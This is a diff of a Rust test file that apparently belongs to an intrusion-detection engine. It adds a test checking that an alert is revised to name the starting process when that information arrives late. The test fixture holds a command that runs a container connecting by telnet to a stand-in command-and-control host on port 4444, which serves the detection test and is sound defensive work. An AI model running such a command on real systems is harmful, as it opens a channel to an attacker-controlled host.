@@ -231,6 +231,26 @@ fn who_started_it_is_told_when_only_one_can_have() {
 }
 
 #[test]
+fn who_started_it_is_told_also_when_that_is_known_late() {
+    let mut world = World::new();
+    literal(&mut world, Mask::Open);
+    let mut late = World::default();
+    late.host_process(711, START_MS - 30, "docker run alpine telnet c2.example.com 4444");
+    let mut engine = Engine::new(Limits::default());
+    let mut last = None;
+    for told in &world.merged() {
+        engine.observe(told, &mut |update| last = Some(update));
+    }
+    engine.advance(at_ms(START_MS + 6_000), &mut |update| last = Some(update));
+    let Some(AlertUpdate::Revised(alert)) = &last else { panic!("{last:#?}") };
+    assert!(alert.subjects[0].started_by.is_none());
+    engine.observe(&late.facts[0], &mut |update| last = Some(update));
+    engine.advance(at_ms(START_MS + 12_000), &mut |update| last = Some(update));
+    let Some(AlertUpdate::Revised(alert)) = last else { panic!("{last:#?}") };
+    assert_eq!(alert.subjects[0].started_by.as_ref().unwrap().pid, 711);
+}
+
+#[test]
 fn a_missing_source_is_named() {
     let all = [
         (PACKETS, SourceKind::Packets),
